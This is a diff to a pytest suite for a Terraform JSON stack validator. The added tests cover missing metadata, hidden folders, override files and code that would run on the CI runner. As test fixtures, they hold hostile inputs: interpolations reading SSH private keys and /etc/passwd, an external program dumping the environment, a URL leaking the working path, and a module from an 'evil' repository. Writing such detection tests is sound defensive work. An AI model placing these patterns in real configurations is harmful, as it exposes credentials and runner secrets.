@@ -142,9 +142,12 @@ def test_malformed_metadata_names_the_rules_it_turns_off(churn, key, value, need
     assert key in meta.message and needs in meta.message and report.failed
 
 
-def test_a_missing_metadata_field_is_a_finding(churn):
+@pytest.mark.parametrize("key", ["network", "monthly_budget_usd", "region"])
+def test_a_missing_metadata_field_is_a_finding(churn, key):
+    """Deleting the budget must not silently turn off TS-COST-001 ("none" means no budget)."""
     doc = copy.deepcopy(churn)
-    del doc["//"]["trainstack"]["network"]
+    assert doc["//"]["trainstack"]["monthly_budget_usd"] == 2000
+    del doc["//"]["trainstack"][key]
     assert ("TS-META-002", "") in live(doc)
 
 
@@ -240,6 +243,26 @@ def test_interpolations_trainstack_never_writes_are_flagged(churn, where, value,
             node = node[0]
     node[last] = value
     assert ("TS-SEC-014", address) in live(doc)
+
+
+@pytest.mark.parametrize("where", ["tags", "output", "locals"])
+def test_a_comment_key_inside_a_value_is_evaluated_so_it_is_checked(churn, where):
+    """Terraform ignores "//" only directly in a block body: in a map (tags), an output's
+    value or a local it is an ordinary key, and its value is evaluated (a real plan of
+    `"input": {"//": "${file(...)}"}` prints the file)."""
+    doc = copy.deepcopy(churn)
+    payload = {"//": '${file("/home/runner/.ssh/id_rsa")}'}
+    if where == "tags":
+        doc["resource"][KV]["key_vault"]["tags"] = payload
+    elif where == "output":
+        doc["output"]["resource_group_name"]["value"] = payload
+    else:
+        doc["locals"] = {"x": payload}
+    assert any(rule == "TS-SEC-014" for rule, _ in live(doc))
+    doc = _with_secret(doc, {"//": "hunter2"})
+    doc["resource"]["azurerm_machine_learning_compute_cluster"]["training"]["ssh"] = {
+        "admin_password": {"//": "x"}, "//": {"admin_password": "hunter2"}}
+    assert ("TS-SEC-013", "azurerm_machine_learning_compute_cluster.training") in live(doc)
 
 
 def test_the_bundled_stacks_interpolate_only_references(churn):
@@ -428,3 +451,81 @@ def test_every_argument_of_every_bundled_stack_survives_type_confusion(bundled):
                                         if f.rule == "TS-ENGINE-001"]
     assert len(seen) > 250
     assert crashed == []
+
+
+# -- every file terraform reads in a stack folder ---------------------------------------------
+
+def _folder(tmp_path, churn, **files):  # noqa: ANN001, ANN003, ANN202
+    folder = tmp_path / "stacks" / "churn"
+    folder.mkdir(parents=True)
+    (folder / "cdk.tf.json").write_text(json.dumps(churn))
+    for name, content in files.items():
+        (folder / name.replace("__", ".")).write_text(
+            content if isinstance(content, str) else json.dumps(content))
+    return tmp_path
+
+
+def _live_of(directory) -> set[tuple[str, str]]:  # noqa: ANN001
+    report = validate(load_stacks(directory))
+    return {(f.rule, f.resource) for f in report.findings if not f.suppressed}
+
+
+def test_a_hidden_stack_folder_is_validated_too(tmp_path, churn):
+    doc = copy.deepcopy(churn)
+    doc["resource"][KV]["key_vault"]["purge_protection_enabled"] = False
+    (tmp_path / "stacks" / ".evil").mkdir(parents=True)
+    (tmp_path / "stacks" / ".evil" / "cdk.tf.json").write_text(json.dumps(doc))
+    assert ("TS-SEC-004", f"{KV}.key_vault") in _live_of(tmp_path)
+
+
+def test_an_additional_tf_json_file_is_read_with_the_stack(tmp_path, churn):
+    extra = {"resource": {KV: {"extra": {**_weak_vault(churn), "name": "kv-extra-x1"}}},
+             "output": {"leak": {"value": '${file("/etc/passwd")}'}}}
+    live_findings = _live_of(_folder(tmp_path, churn, extra__tf__json=extra))
+    assert ("TS-SEC-004", f"{KV}.extra") in live_findings
+    assert ("TS-SEC-014", "output.leak") in live_findings
+
+
+def test_an_override_file_is_merged_as_terraform_merges_it(tmp_path, churn):
+    override = {"resource": {"azurerm_machine_learning_workspace": {"workspace": {
+        "public_network_access_enabled": True,
+        "description": '${file("/home/runner/.ssh/id_rsa")}'}}}}
+    live_findings = _live_of(_folder(tmp_path, churn, override__tf__json=override))
+    assert ("TS-SEC-014", "azurerm_machine_learning_workspace.workspace") in live_findings
+
+
+def test_an_override_of_nothing_is_refused_as_terraform_refuses_it(tmp_path, churn):
+    override = {"resource": {KV: {"missing": {"sku_name": "premium"}}}}
+    with pytest.raises(StackError, match="overrides nothing"):
+        load_stacks(_folder(tmp_path, churn, x_override__tf__json=override))
+
+
+def test_a_duplicate_across_files_is_refused(tmp_path, churn):
+    extra = {"resource": {KV: {"key_vault": _weak_vault(churn)}}}
+    with pytest.raises(StackError, match="defined twice"):
+        load_stacks(_folder(tmp_path, churn, extra__tf__json=extra))
+
+
+def test_an_hcl_file_in_a_stack_folder_is_an_unsuppressible_finding(tmp_path, churn):
+    doc = copy.deepcopy(churn)
+    doc["//"]["trainstack"]["suppressions"].append(
+        {"rule": "TS-META-004", "reason": "we know what we are doing"})
+    directory = _folder(tmp_path, doc, main__tf='resource "terraform_data" "x" {}\n')
+    assert ("TS-META-004", "") in _live_of(directory)
+
+
+@pytest.mark.parametrize(("kind", "body", "address"), [
+    ("data", {"external": {"x": {"program": ["sh", "-c", "env"]}}}, "data.external.x"),
+    ("data", {"http": {"x": {"url": "https://example.org/?q=${path.cwd}"}}}, "data.http.x"),
+    ("resource", {"terraform_data": {"x": {"provisioner": {"local-exec": {"command": "id"}}}}},
+     "terraform_data.x"),
+    ("module", {"m": {"source": "git::https://example.org/evil.git"}}, "module.m"),
+])
+def test_code_that_would_run_on_the_runner_is_flagged(churn, kind, body, address):
+    doc = copy.deepcopy(churn)
+    if kind == "module":
+        doc["module"] = body
+    else:
+        for rtype, items in body.items():
+            doc.setdefault(kind, {}).setdefault(rtype, {}).update(items)
+    assert ("TS-SEC-015", address) in live(doc)
